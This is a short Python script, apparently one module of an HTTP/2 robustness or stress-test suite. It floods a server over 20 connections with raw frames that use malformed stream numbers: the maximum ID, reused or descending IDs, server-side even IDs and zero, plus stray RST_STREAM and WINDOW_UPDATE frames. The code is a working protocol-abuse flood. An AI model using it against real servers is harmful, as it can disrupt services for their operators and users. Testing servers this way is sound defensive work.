"""Numbers of streams at their end: the last one, numbers that go back, numbers of the server's."""
from attack_program import MATCH, program
from h2wire import DATA, END_HEADERS, END_STREAM, HEADERS, MAX_STREAM_ID, RST_STREAM, WINDOW_UPDATE, frame, message, request_block


def run(attack):
    headers, body = request_block(MATCH), message(b"")
    numbers = ([MAX_STREAM_ID, 1], [MAX_STREAM_ID - 2, MAX_STREAM_ID, MAX_STREAM_ID], [2, 4], [5, 3], [0], [1, 1], [MAX_STREAM_ID - 1])

    def block(connection, at):
        frames = b""
        for number in numbers[at % len(numbers)]:
            connection.tally.streams += 1
            frames += frame(HEADERS, END_HEADERS, number, headers) + frame(DATA, END_STREAM, number, body)
        return frames + frame(RST_STREAM, 0, 99, bytes(4)) + frame(WINDOW_UPDATE, 0, 99, b"\0\0\0\1")
    attack.flood(block, attack.options.count)


if __name__ == "__main__":
    program(__doc__, run, count=4_000, connections=20, megabytes=10)
